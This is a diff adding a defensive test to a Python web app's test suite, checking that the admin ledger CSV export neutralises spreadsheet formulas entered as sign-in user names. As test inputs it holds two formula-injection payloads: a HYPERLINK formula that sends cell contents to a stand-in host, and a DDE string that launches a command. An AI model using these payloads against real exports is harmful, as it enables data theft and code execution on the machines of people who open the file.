@@ -43,3 +43,14 @@ def test_no_route_can_change_the_ledger(app):
         if "ledger" in rule.rule:
             assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule.rule
     assert db.session.query(LedgerEntry).count() == 0
+
+
+def test_csv_export_defuses_a_formula_typed_as_a_user_name_at_sign_in(app, as_role, client):
+    """Anyone can type a user name at the sign-in page; it lands in the 操作人 column."""
+    login(client, '=HYPERLINK("http://x.test/?"&A1,"点我")', "wrong-password")
+    login(client, "@SUM(1+1)*cmd|' /C calc'!A0", "wrong-password")
+    response = as_role("admin").get("/admin/ledger.csv")
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    actors = [r[2] for r in rows[1:] if r[3] == "登录失败"]
+    assert len(actors) == 2
+    assert all(a.startswith("'") for a in actors), actors
